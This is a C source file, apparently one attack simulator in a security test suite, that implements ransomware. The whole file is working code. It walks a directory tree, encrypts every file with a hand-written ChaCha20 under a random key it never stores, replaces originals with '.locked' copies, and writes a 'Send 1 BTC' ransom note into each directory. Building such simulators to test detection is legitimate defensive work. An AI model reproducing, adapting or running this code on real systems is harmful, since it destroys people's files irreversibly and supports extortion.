// SPDX-License-Identifier: GPL-2.0
/*
 * Ransomware-like: walk a directory tree and, for every file, read it,
 * encrypt it with ChaCha20 under a random key, write NAME.locked through a
 * temporary file and a rename, unlink the original, and leave a ransom note
 * in every directory. Succeeds when at least one file was encrypted.
 *
 *   attack-ransom DIR
 */
#include "common.h"

#include <fcntl.h>
#include <ftw.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/random.h>
#include <unistd.h>

#define SUFFIX ".locked"
#define NOTE "HOW_TO_DECRYPT.txt"

static uint32_t key[8];
static unsigned long files, bytes;

static uint32_t rotl(uint32_t v, int n)
{
	return (v << n) | (v >> (32 - n));
}

static void quarter_round(uint32_t *x, int a, int b, int c, int d)
{
	x[a] += x[b];
	x[d] = rotl(x[d] ^ x[a], 16);
	x[c] += x[d];
	x[b] = rotl(x[b] ^ x[c], 12);
	x[a] += x[b];
	x[d] = rotl(x[d] ^ x[a], 8);
	x[c] += x[d];
	x[b] = rotl(x[b] ^ x[c], 7);
}

/* One ChaCha20 block of keystream for (key, nonce, counter). */
static void chacha_block(uint8_t out[64], uint32_t nonce, uint32_t counter)
{
	uint32_t x[16] = { 0x61707865, 0x3320646e, 0x79622d32, 0x6b206574 };
	uint32_t s[16];

	memcpy(&x[4], key, sizeof(key));
	x[12] = counter;
	x[13] = nonce;
	memcpy(s, x, sizeof(s));
	for (int i = 0; i < 10; i++) {
		quarter_round(x, 0, 4, 8, 12);
		quarter_round(x, 1, 5, 9, 13);
		quarter_round(x, 2, 6, 10, 14);
		quarter_round(x, 3, 7, 11, 15);
		quarter_round(x, 0, 5, 10, 15);
		quarter_round(x, 1, 6, 11, 12);
		quarter_round(x, 2, 7, 8, 13);
		quarter_round(x, 3, 4, 9, 14);
	}
	for (int i = 0; i < 16; i++) {
		uint32_t v = x[i] + s[i];

		memcpy(out + 4 * i, &v, 4);
	}
}

static int ends_with(const char *s, const char *suffix)
{
	size_t ls = strlen(s), lx = strlen(suffix);

	return ls >= lx && !strcmp(s + ls - lx, suffix);
}

static void encrypt_file(const char *path)
{
	static uint8_t buf[64 * 1024];
	char tmp[4096], locked[4096];
	uint32_t nonce = (uint32_t)files;
	uint32_t counter = 0;
	int in, out;
	ssize_t n;

	snprintf(tmp, sizeof(tmp), "%s.tmp", path);
	snprintf(locked, sizeof(locked), "%s" SUFFIX, path);
	in = open(path, O_RDONLY);
	if (in < 0)
		return;
	out = open(tmp, O_WRONLY | O_CREAT | O_TRUNC, 0600);
	if (out < 0) {
		close(in);
		return;
	}
	while ((n = read(in, buf, sizeof(buf))) > 0) {
		for (ssize_t i = 0; i < n; i += 64) {
			uint8_t ks[64];

			chacha_block(ks, nonce, counter++);
			for (ssize_t j = 0; j < 64 && i + j < n; j++)
				buf[i + j] ^= ks[j];
		}
		attack_write_all(out, buf, (size_t)n);
		bytes += (unsigned long)n;
	}
	close(in);
	if (fsync(out) < 0 || close(out) < 0 || rename(tmp, locked) < 0 ||
	    unlink(path) < 0)
		attack_die(path);
	files++;
}

static int visit(const char *path, const struct stat *st, int type,
		 struct FTW *ftw)
{
	(void)st;
	if (type == FTW_D) {
		char note[4096];
		int fd;

		snprintf(note, sizeof(note), "%s/" NOTE, path);
		fd = open(note, O_WRONLY | O_CREAT | O_TRUNC, 0644);
		if (fd >= 0) {
			dprintf(fd, "Your files are encrypted. Send 1 BTC to get the key.\n");
			close(fd);
		}
		return 0;
	}
	if (type != FTW_F || ends_with(path, SUFFIX) ||
	    !strcmp(path + ftw->base, NOTE))
		return 0;
	encrypt_file(path);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc != 2) {
		fprintf(stderr, "usage: attack-ransom DIR\n");
		return 2;
	}
	attack_announce("ransom", getpid());
	if (getrandom(key, sizeof(key), 0) != sizeof(key))
		attack_die("getrandom");
	if (nftw(argv[1], visit, 16, FTW_PHYS) < 0)
		attack_die(argv[1]);
	printf("ransom: encrypted %lu files, %lu bytes under %s\n", files,
	       bytes, argv[1]);
	return files ? 0 : 1;
}
